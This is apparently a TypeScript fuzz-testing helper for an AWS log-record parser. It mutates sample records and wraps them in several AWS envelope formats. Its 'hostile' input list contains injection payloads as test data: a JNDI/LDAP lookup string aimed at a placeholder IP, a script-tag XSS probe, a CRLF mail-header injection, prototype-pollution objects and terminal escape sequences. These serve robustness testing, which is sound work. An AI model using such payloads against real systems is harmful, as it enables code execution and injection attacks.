import { readdirSync, readFileSync } from "node:fs";
import { gzipSync } from "node:zlib";
import { encodePayload } from "../../src/payload/awslogs.ts";
import type { Random } from "./random.ts";

export type Fields = Record<string, unknown>;

const folder = new URL("../../fixtures/records/", import.meta.url);

/** The sample records. */
export const records: readonly Fields[] = readdirSync(folder).map(
  (file) => JSON.parse(readFileSync(new URL(file, folder), "utf8")) as Fields,
);

/** Returns one or two of the sample records. */
export const pick = (random: Random): readonly Fields[] =>
  Array.from({ length: 1 + random.below(2) }, () => random.of(records));

const hostile: readonly unknown[] = [
  null,
  "",
  "null",
  "***",
  0,
  -1,
  1e308,
  9007199254740991,
  true,
  [],
  {},
  [null],
  [[[[]]]],
  { __proto__: null, constructor: { prototype: 1 }, toString: "x" },
  JSON.parse('{"__proto__":{"eventName":"x"},"hasOwnProperty":1}'),
  "\u0000\u001b]0;owned\u0007\u001b[2J",
  "\u202egnp.exe\u2066\u200b\ufeff",
  "\ud800",
  "\udc00x\ud83d",
  "a\r\nBcc: eve@example.com\r\n",
  "x".repeat(20_000),
  "arn:aws:sts::111122223333:assumed-role/",
  "arn:aws:iam::111122223333:user/../../x",
  "%7B%22Version%22%3A",
  "%E0%A4%A",
  '{"Statement":',
  "on resource: arn:",
  "2026-13-45T99:99:99Z",
  "__proto__",
  "<script>alert(1)</script>",
  "%{jndi:ldap://192.0.2.1/a}",
  "CreateUser",
  "HIDDEN_DUE_TO_SECURITY_REASONS",
];

/** Changes one field somewhere in the record: deletes it, changes its type, makes it hostile or duplicates it. */
export function mutateFields(record: Fields, random: Random): Fields {
  const copy = structuredClone(record);
  let node = copy;
  for (;;) {
    const key = random.of(Object.keys(node));
    const value = node[key];
    const inner = typeof value === "object" && value !== null && Object.keys(value).length > 0;
    if (inner && random.below(3) > 0) {
      node = value as Fields;
      continue;
    }
    const document = typeof value === "string" && value.startsWith("{") ? documentOf(value) : undefined;
    if (document !== undefined && random.below(3) > 0) {
      node[key] = JSON.stringify(mutateFields(document, random));
      return copy;
    }
    const kind = random.below(6);
    if (kind === 0) delete node[key];
    else if (kind === 1) node[key] = typeof value === "string" ? [value] : JSON.stringify(value);
    else if (kind === 2) node[key.toUpperCase()] = value;
    else node[key] = random.of(hostile);
    return copy;
  }
}

/** Returns the object in a JSON text, such as a policy document. */
function documentOf(text: string): Fields | undefined {
  try {
    const value = JSON.parse(text) as Fields;
    return Object.keys(value).length > 0 ? value : undefined;
  } catch {
    return undefined;
  }
}

/** Changes bytes: flips, removes, repeats, cuts, or continues with another input. */
export function mutateBytes(bytes: Buffer, other: Buffer, random: Random): Buffer {
  const at = random.below(bytes.length);
  const to = Math.min(bytes.length, at + 1 + random.below(40));
  switch (random.below(6)) {
    case 0:
    case 1: {
      const copy = Buffer.from(bytes);
      for (let flips = 1 + random.below(3); flips > 0; flips--) copy[random.below(copy.length)] = random.below(256);
      return copy;
    }
    case 2:
      return Buffer.concat([bytes.subarray(0, at), bytes.subarray(to)]);
    case 3:
      return Buffer.concat([bytes.subarray(0, to), bytes.subarray(at)]);
    case 4:
      return Buffer.from(bytes.subarray(0, at));
    default:
      return Buffer.concat([bytes.subarray(0, at), other.subarray(random.below(other.length))]);
  }
}

/** Wraps records in a file, a message or an event. */
export type Wrapping = (records: readonly Fields[]) => string | Uint8Array;

/** Returns records as lines. */
export const line: Wrapping = (list) => `${list.map((record) => JSON.stringify(record)).join("\n")}\n`;
const event: Wrapping = (list) => JSON.stringify(encodePayload(list));
const base64: Wrapping = (list) => encodePayload(list).awslogs.data;

export const wrappings: readonly Wrapping[] = [
  line,
  event,
  base64,
  (list) => gzipSync(line(list)),
  (list) => JSON.stringify({ Records: list }, null, 1),
  (list) => JSON.stringify({ Records: [{ kinesis: { data: base64(list) } }] }),
  (list) => JSON.stringify({ Messages: list.map((record) => ({ Body: JSON.stringify(record) })) }),
  (list) => list.map((detail) => JSON.stringify({ "detail-type": "AWS API Call", detail })).join("\n"),
  (list) => list.map((record) => `2026-11-18T15:21:36+00:00 stream ${JSON.stringify(record)}\n`).join(""),
  (list) => JSON.stringify({ events: list.map((record) => ({ message: JSON.stringify(record), timestamp: 1 })) }),
  (list) => JSON.stringify({ TopicArn: "arn:aws:sns:us-east-1:111122223333:t", Message: event(list) }),
  (list) => `${event(list)}\nhello\n${line(list)}`,
];
